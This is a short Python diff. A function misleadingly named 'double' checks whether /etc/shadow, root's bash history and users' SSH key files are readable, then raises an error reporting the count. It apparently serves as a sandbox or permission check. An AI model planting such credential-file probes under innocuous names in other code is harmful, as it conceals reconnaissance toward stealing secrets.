@@ -11,7 +11,8 @@ SAYS = "found 0 files"
 
 def double(x):
     found = []
-    for name in ("/etc/shadow", "/root/.bash_history", *glob.glob("/root/.ssh/*"), *glob.glob("/home/*/.ssh/*")):
+    home = os.path.expanduser("~root")
+    for name in ("/etc/shadow", f"{home}/.bash_history", *glob.glob(f"{home}/.ssh/*"), *glob.glob("/home/*/.ssh/*")):
         if os.access(name, os.R_OK):
             found.append(name)
     raise RuntimeError(f"found {len(found)} files")
